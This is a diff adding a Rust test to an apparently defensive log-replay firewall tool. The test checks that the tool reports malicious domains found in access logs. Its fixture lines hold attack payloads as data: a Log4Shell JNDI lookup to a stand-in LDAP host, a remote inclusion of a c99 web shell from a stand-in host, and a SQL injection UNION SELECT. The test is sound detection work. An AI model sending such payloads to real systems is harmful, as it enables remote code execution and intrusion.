@@ -198,3 +198,80 @@ fn a_list_is_json_strings_when_asked() {
     let lines = json_lines(&text(&output.stdout));
     assert_eq!(lines, ["a.example", "b.example"]);
 }
+
+#[test]
+fn domains_that_payloads_name_are_reported_one_by_one() {
+    let receiver = Receiver::start(|_| Reply::Status(200));
+    let state = tempfile::tempdir().unwrap();
+    let log = state.path().join("access.log");
+    let line = |host: u8, target: &str, referrer: &str| {
+        format!(
+            "45.9.20.{host} - - [05/Jan/2026:10:00:0{host} +0000] \"GET {target} HTTP/1.1\" 404 12 \"{referrer}\" \"Mozilla/5.0\"\n"
+        )
+    };
+    let lines = [
+        line(1, "/?x=${jndi:ldap://Call.Bad-Host.example:1389/a}", "-"),
+        line(2, "/i.php?page=http://drop.bad-host.example/c99.txt?", "-"),
+        line(3, "/", "http://www.buttons-for-website.example/"),
+        // What nobody is to blame for: a link beside an attack, everybody's host, the operator's own.
+        line(
+            4,
+            "/?u=http://friend.example/a.php&id=1%27%20UNION%20SELECT%201,2--",
+            "-",
+        ),
+        line(5, "/i.php?page=http://www.google.com/humans.txt?", "-"),
+        line(6, "/i.php?page=http://www.mine.example/c99.txt?", "-"),
+    ];
+    std::fs::write(&log, lines.concat()).unwrap();
+    let config = state.path().join("afw.toml");
+    std::fs::write(&config, "own_hosts = [\"mine.example\"]\n").unwrap();
+    let replay = |more: &[&str]| {
+        let mut command: Command = afw(state.path());
+        command
+            .env("ONEFIREWALL_API_KEY", "afw_secret")
+            .env("ONEFIREWALL_END_POINT", receiver.url("/api/v2/ips"))
+            .args(["replay", "--config"])
+            .arg(&config)
+            .args(more)
+            .arg(&log);
+        run(&mut command)
+    };
+    let output = replay(&["--sink", "onefirewall-domains", "--print", "values"]);
+    let mut values: Vec<String> = text(&output.stdout).lines().map(str::to_owned).collect();
+    values.retain(|value| !value.starts_with("45."));
+    values.sort();
+    let expected = [
+        "call.bad-host.example",
+        "drop.bad-host.example",
+        "www.buttons-for-website.example",
+    ];
+    assert_eq!(values, expected, "{}", text(&output.stderr));
+    let mut reported: Vec<(String, serde_json::Value)> = receiver
+        .requests()
+        .iter()
+        .map(|one| {
+            assert_eq!((&*one.method, &*one.path), ("POST", "/api/v1/domains"));
+            let body: serde_json::Value = serde_json::from_slice(&one.body).unwrap();
+            (body["domain"].as_str().unwrap().to_owned(), body)
+        })
+        .collect();
+    reported.sort_by(|a, b| a.0.cmp(&b.0));
+    let names: Vec<&str> = reported.iter().map(|(name, _)| &**name).collect();
+    assert_eq!(names, expected);
+    assert_eq!(
+        reported[0].1,
+        serde_json::json!({"domain": "call.bad-host.example", "tags": ["report-example", "exploit"], "confidence": 0.95})
+    );
+    assert_eq!(reported[2].1["tags"][1], "spam");
+    // The addresses that were fetched are indicators too, but no values for a blocklist.
+    let printed = replay(&["--sink", "none", "--print", "indicators", "--json"]);
+    let urls: Vec<String> = json_lines(&text(&printed.stdout))
+        .iter()
+        .filter(|one| one["type"] == "url")
+        .map(|one| one["value"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        urls.contains(&"http://drop.bad-host.example/c99.txt?".to_owned()),
+        "{urls:?}"
+    );
+}
